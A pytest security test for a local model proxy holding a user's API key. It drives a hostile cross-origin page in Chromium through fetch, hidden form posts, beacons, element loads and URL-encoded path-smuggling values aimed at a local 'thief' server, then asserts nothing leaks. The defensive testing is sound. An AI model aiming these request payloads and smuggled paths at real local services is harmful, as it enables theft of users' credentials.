"""A page of another origin and the model's proxy, in a real Chromium: what it sends reaches no server with the key."""

from threading import Event
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest

pytest.importorskip("httpx", reason="the extra proxy is not installed")
pytest.importorskip("starlette")
pytest.importorskip("uvicorn")

import httpx
from memstory_tests_local_server import LocalHandler, serving

from memstory.models.answering import Forwarder
from memstory.models.proxy import Proxy
from memstory.models.proxy_recording import Recorder, read_calls
from memstory.results.secret_values import Secrets

pytestmark = pytest.mark.slow
KEY = "sk-the-users-own"
ASKED = {"model": "m", "messages": [{"role": "user", "content": "tea"}]}

FETCH = """([url, options]) => fetch(url, options).then(
  (answer) => answer.text().then((text) => `${answer.type} ${text}`), (error) => `${error}`)"""
FORM = """([url, type]) => new Promise((done) => {
  const frame = Object.assign(document.createElement('iframe'), {name: 'hidden'});
  const form = document.createElement('form');
  Object.assign(form, {action: url, method: 'post', enctype: type, target: 'hidden'});
  form.append(Object.assign(document.createElement('input'), {name: '{"model":"m","a', value: '":1}'}));
  document.body.append(frame, form);
  frame.addEventListener('load', () => { frame.remove(); form.remove(); done(); });
  form.submit();
})"""
ELEMENT = """([tag, url]) => new Promise((done) => {
  const made = Object.assign(document.createElement(tag), {src: url, onload: done, onerror: done});
  document.body.append(made);
}).then(() => 0)"""
BEACON = "([url, type]) => navigator.sendBeacon(url, new Blob(['{}'], {type}))"


class Noting(LocalHandler):
    """Notes who is asked for what, with which key; a GET is answered with an empty page."""

    def do_POST(self):  # noqa: N802  (the name is given)
        self.rfile.read(int(self.headers["Content-Length"] or 0))
        self.answer({})

    def answer(self, body):
        self.json_type = "text/html" if body is None else "application/json"
        self.fake.seen.append((self.path, self.headers["Authorization"]))
        message = {"role": "assistant", "content": "Only for those who ask by the whole address."}
        self.send(200, b"<title>evil</title>" if body is None else {"choices": [{"message": message}]})


@pytest.fixture
def upstream():
    yield from serving(SimpleNamespace(seen=[], stopping=Event()), Noting, "/v1")


@pytest.fixture
def thief():
    yield from serving(SimpleNamespace(seen=[], stopping=Event()), Noting)


def attacks(page, origin, base, thief):
    """Try everything that a page can send at `base`, as if it knew it; return what it could read."""
    host = urlsplit(thief).netloc
    told = []
    elsewhere = [f"http:%2f%2f{host}%2fsteal", f"http://{host}/steal", f"%2f%2f{host}/steal"]
    for path in [*elsewhere, "chat/completions", "models"]:
        url = f"{base}/{path}"
        for mode in ("no-cors", "cors"):
            for method in ("POST", "GET"):
                body = {"body": "{}"} if method == "POST" else {}
                told.append(page.evaluate(FETCH, [url, {"method": method, "mode": mode, **body}]))
        json_typed = {"method": "POST", "body": "{}", "headers": {"Content-Type": "application/json"}}
        told.append(page.evaluate(FETCH, [url, json_typed]))
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
            page.evaluate(FORM, [url, kind])
            page.evaluate(BEACON, [url, kind])
        for tag in ("img", "script", "iframe"):
            page.evaluate(ELEMENT, [tag, url])
    for calls in (f"{origin}/memstory/calls", f"{base.removesuffix('/v1')}/memstory/calls"):
        told.append(page.evaluate(FETCH, [calls, {}]))
        page.evaluate(ELEMENT, ["script", calls])
    return told


@pytest.mark.parametrize("known", ["nothing", "a guess", "the base URL"])
def test_a_page_of_another_origin_gets_neither_key_nor_words_nor_a_call(chromium, upstream, thief, tmp_path, known):
    file = tmp_path / "run.jsonl"
    with Proxy(Forwarder(upstream.url, KEY, Recorder(file, Secrets()))) as proxy:
        origin = f"http://{urlsplit(proxy.url).netloc}"
        base = {"nothing": f"{origin}/v1", "a guess": f"{origin}/{'0' * 32}/v1", "the base URL": proxy.url}[known]
        assert httpx.post(f"{proxy.url}/chat/completions", json=ASKED).status_code == 200
        page = chromium.new_page()
        page.goto(f"{thief.url}/page")
        told = attacks(page, origin, base, thief.url)
        page.evaluate(FETCH, [f"{thief.url}/reached", {}])
        page.close()
        assert [call.path for call in proxy.calls] == ["chat/completions"]
    assert {path for path, _ in thief.seen} >= {"/page", "/reached"}
    assert {(path, key) for path, key in thief.seen if key or "steal" in path} == set()
    assert upstream.seen == [("/v1/chat/completions", f"Bearer {KEY}")]
    assert [one for one in told if "TypeError" not in one and one != "opaque "] == []
    assert len(read_calls(file)) == 1
